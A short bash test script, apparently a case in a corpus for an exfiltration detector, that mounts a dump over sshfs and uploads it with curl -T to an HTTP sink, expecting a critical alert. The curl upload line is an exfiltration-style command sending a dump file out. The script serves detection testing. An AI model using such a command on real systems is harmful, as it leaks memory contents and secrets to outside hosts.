#!/bin/bash
# B-sshfs-source: the dump lies on an sshfs mount, and is sent from there.
# flow: ssh reads TCP; a socket pair to sshfs, which writes /dev/fuse; curl reads a file of the mount and sends.
# tools: sshfs ssh sshd curl
# expect: sent counted any-port critical
. "$CORPUS/lib.sh"
from_linux 6.11
mkdump
sshd_up
cp "$D" recv/core
sshfs_up
sink http $((PORT + 1))
curl -sS -T mount/core "http://$SINK:$((PORT + 1))/up"
sunk
